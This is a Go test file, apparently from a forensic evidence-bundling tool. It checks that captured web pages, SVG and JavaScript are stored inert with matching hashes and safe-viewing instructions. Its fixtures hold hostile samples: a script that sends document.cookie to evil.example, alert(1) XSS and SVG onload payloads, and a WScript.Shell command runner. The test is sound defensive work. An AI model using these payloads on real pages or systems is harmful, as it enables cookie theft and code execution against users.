package casefile

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/ed25519"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"pilmon/evidence"
	"pilmon/findings"
)

// executableExts are member extensions a browser, a mail client or Windows would open as active
// content: captured pages must never be bundled under one of them.
var executableExts = []string{".html", ".htm", ".xhtml", ".shtml", ".mhtml", ".mht", ".svg", ".svgz", ".js", ".mjs", ".hta", ".xml", ".xsl", ".wsf", ".vbs"}

// TestCapturedPagesAreBundledInert: HTML, MHTML, SVG and JavaScript captured from the party under
// investigation are bundled byte for byte under a name no browser runs (….txt), their manifest
// hashes match the stored bytes, the HTML points to the screenshot of the same browser capture,
// VERIFY.txt says how to view them safely, and the bundle verifies.
func TestCapturedPagesAreBundledInert(t *testing.T) {
	fx := newFixture(t)
	at := time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)
	url := "https://example.cn/h5/index"
	capture := func(mt string) evidence.Meta {
		return evidence.Meta{CapturedAt: at, Method: "browser_capture", Source: url, Tool: "pilmon test", MediaType: mt}
	}
	artifacts := []struct {
		name string
		data []byte
		meta evidence.Meta
	}{
		{"html", []byte(`<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>`), capture("text/html; charset=utf-8")},
		{"mhtml", []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"), capture("multipart/related")},
		{"shot", append(pngBytes(t), 'x'), capture("image/png")},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), evidence.Meta{Method: "http_fetch", Source: "https://example.cn/logo.svg", MediaType: "image/svg+xml"}},
		{"js", []byte(`new ActiveXObject("WScript.Shell").Run("calc")`), evidence.Meta{Method: "http_fetch", Source: "https://example.cn/a.js", MediaType: "application/javascript"}},
		{"xhtml", []byte(`<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`), evidence.Meta{Method: "http_fetch", Source: "https://example.cn/x", MediaType: "application/xhtml+xml"}},
	}
	refs := map[string]string{}
	stored := map[string][]byte{}
	var extra []string
	for _, a := range artifacts {
		ref, err := fx.ev.Put(bytes.NewReader(a.data), a.meta)
		if err != nil {
			t.Fatal(err)
		}
		refs[a.name], stored[ref.SHA256] = ref.SHA256, a.data
		extra = append(extra, ref.SHA256)
	}
	var fs []findings.Finding
	for _, fp := range fx.fps {
		fs = append(fs, fx.store.fs[fp])
	}
	var buf bytes.Buffer
	err := WriteScanBundle(context.Background(), &buf, ScanBundleInput{Findings: fs, Evidence: fx.ev, Catalogue: fx.cat,
		Target: fx.target, User: "analyst", ScanID: "scan-0003", EvidenceRefs: extra, Options: Options{Key: testKey(), SkipPDF: true}})
	if err != nil {
		t.Fatal(err)
	}
	bundle := buf.Bytes()
	if rep := verifyBytes(t, bundle, VerifyOptions{PublicKey: testKey().Public().(ed25519.PublicKey)}); !rep.OK {
		t.Fatalf("bundle with captured pages fails verification:\n%s", rep)
	}
	zr, err := zip.NewReader(bytes.NewReader(bundle), int64(len(bundle)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if ext := strings.ToLower(path.Ext(f.Name)); slices.Contains(executableExts, ext) {
			t.Errorf("bundle member %s has extension %s, which a browser or Windows would run", f.Name, ext)
		}
	}
	m := mustManifest(t, bundle)
	for name, h := range refs {
		var fe FileEntry
		for _, e := range m.Files {
			if strings.HasPrefix(e.Path, EvidenceDir+h) {
				fe = e
			}
		}
		if fe.Path == "" {
			t.Fatalf("%s (%s) not in the manifest", name, h)
		}
		if fe.SHA256 != h || fe.Size != int64(len(stored[h])) || !bytes.Equal(member(t, bundle, fe.Path), stored[h]) {
			t.Errorf("%s: manifest %+v or member bytes differ from the stored artifact", name, fe)
		}
		if name == "html" || name == "mhtml" {
			want := []string{EvidenceDir + refs["shot"] + ".png"}
			if !slices.Equal(fe.Rendered, want) {
				t.Errorf("%s: rendered copies %v, want %v", name, fe.Rendered, want)
			}
		} else if len(fe.Rendered) != 0 {
			t.Errorf("%s: rendered copies %v, want none", name, fe.Rendered)
		}
	}
	vt := string(member(t, bundle, VerifyName))
	for _, want := range []string{"查看网页证据", "Viewing captured web pages", ".html.txt"} {
		if !strings.Contains(vt, want) {
			t.Errorf("VERIFY.txt lacks %q", want)
		}
	}
	for _, lang := range []string{"zh", "en"} {
		if !strings.Contains(verifyParagraph(lang), ".html.txt") {
			t.Errorf("the %s report's verification section does not say how captured pages are bundled and viewed", lang)
		}
	}
	// The report's evidence list points the page to its screenshot too.
	j := &job{cat: fx.cat, ev: fx.ev, opts: Options{Lang: "en", Key: testKey()}, records: map[string]evidence.Record{}}
	for _, h := range refs {
		rec, err := fx.ev.Stat(h)
		if err != nil {
			t.Fatal(err)
		}
		j.refs, j.records[h] = append(j.refs, h), rec
	}
	slices.Sort(j.refs)
	html, err := renderHTML(j.reportData(""))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(html, "Screenshot of the same capture") || !strings.Contains(html, EvidenceDir+refs["shot"]+".png") {
		t.Error("the report does not point the captured page to its screenshot")
	}
}
